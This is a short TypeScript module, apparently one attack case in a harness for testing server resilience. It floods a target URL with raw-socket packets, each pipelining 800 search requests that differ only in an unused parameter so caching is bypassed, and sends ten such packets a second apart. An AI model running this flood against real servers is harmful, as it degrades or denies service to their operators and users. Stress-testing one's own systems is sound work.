import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, openSocket, repeat } from '../attacker.ts';

const REQUESTS = 800;
const PACKETS = 10;
const PAUSE_MS = 1_000;

/**
 * One packet of 44 KB requests 800 pages that differ only in an unused parameter. Another packet follows each
 * second.
 */
export const attack: Attack = {
  async prepare() {
    let begun = 0;
    return async ({ url, until }) => {
      const open: { destroy(): void }[] = [];
      let bytes = 0;
      const packets = await repeat({ count: PACKETS, width: 1, until }, async () => {
        const socket = openSocket(url);
        open.push(socket);
        socket.on('data', (chunk) => {
          bytes += chunk.length;
        });
        await Promise.race([once(socket, 'connect'), sleep(PAUSE_MS)]);
        socket.write(packet(begun));
        begun += REQUESTS;
        await sleep(PAUSE_MS);
      });
      for (const socket of open) socket.destroy();
      return `${packets} packets of ${REQUESTS} requests, ${Math.round(bytes / 1024)} KiB came back`;
    };
  },
};

function packet(from: number): string {
  const line = (n: number) => `GET /search?q=tea&u=${from + n} HTTP/1.1\r\nHost: a\r\n\r\n`;
  return Array.from({ length: REQUESTS }, (_, n) => line(n)).join('');
}
